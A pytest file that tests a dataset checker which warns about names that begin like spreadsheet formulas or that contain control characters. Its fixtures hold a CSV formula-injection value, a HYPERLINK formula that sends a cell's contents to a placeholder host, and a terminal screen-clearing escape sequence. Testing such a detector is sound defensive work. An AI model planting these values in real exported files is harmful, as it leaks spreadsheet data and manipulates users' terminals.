"""Names that begin like formulas, and names with unprintable characters, are warned about once; numbers never."""

import numpy as np
import pytest

from archnet.data.checks.unusual_names import check_names
from archnet.data.dataset import Cases

LINK = '=HYPERLINK("http://example.org?"&A1)'


def _cases(ids, groups=None, classes=("a", "b")):
    return Cases(
        ids=np.array(ids), groups=np.array(groups or ids), labels=np.arange(len(ids)) % 2, classes=tuple(classes)
    )


@pytest.mark.parametrize("number", ["-1", "+3.5", "-1e-5", "-inf", "+0", "-1_000"])
def test_numbers_and_ordinary_names_are_not_formulas(number):
    assert list(check_names(_cases([number, "scan-1", "a=b", "größe", "肺"], classes=("-1", "+1")))) == []


def test_names_of_cases_groups_and_classes_that_begin_like_formulas_are_one_warning():
    (finding,) = check_names(_cases([LINK, "-2+3", "c"], [LINK, "@SUM(A1)", "p"], classes=("+1x", "b")))
    assert (finding.check, finding.severity) == ("unusual_names", "warning")
    assert finding.cases == ("+1x", "-2+3", LINK, "@SUM(A1)")
    assert finding.text == (
        f'4 names begin with =, +, - or @ ("+1x", "-2+3", "{LINK}", 1 more). The csv files of runs contain names '
        "verbatim, and a spreadsheet program would read these as formulas. Import the csv files as text, or rename the "
        "cases."
    )


def test_a_name_with_control_characters_is_shown_as_escapes_and_listed_verbatim():
    (finding,) = check_names(_cases(["a\n\x1b[2J", "b", "c"]))
    assert finding.cases == ("a\n\x1b[2J",)
    assert finding.text == (
        r'1 name contains unprintable characters ("a\x0a\x1b[2J"). They are printed as escapes, and written into files '
        "verbatim. Rename the cases."
    )


def test_a_name_of_any_length_is_short_in_the_message():
    (finding,) = check_names(_cases(["=" + "A" * 10_000, "b"]))
    assert len(finding.message) < 300
    assert len(finding.cases[0]) == 10_001


def test_a_table_without_cases_has_no_findings():
    empty = np.array([], np.str_)
    assert list(check_names(Cases(ids=empty, groups=empty, labels=np.array([], np.int64), classes=("a",)))) == []
